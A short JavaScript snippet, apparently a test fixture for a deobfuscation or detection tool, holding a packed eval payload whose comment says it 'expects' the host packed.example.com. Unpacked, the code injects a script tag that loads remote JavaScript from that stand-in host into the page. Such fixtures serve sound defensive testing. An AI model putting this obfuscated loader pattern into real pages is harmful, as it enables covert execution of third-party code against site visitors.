// Code that a function unpacks and evaluates.
// expects: packed.example.com
eval(function(p,a,c,k){while(c--)if(k[c])p=p.replace(new RegExp('\\b'+c+'\\b','g'),k[c]);return p}('0 1=2.3("4");1.5="6://7.8.9/";2.10.11(1)',12,12,'var|s|document|createElement|script|src|https|packed|example|com|head|appendChild'.split('|')));
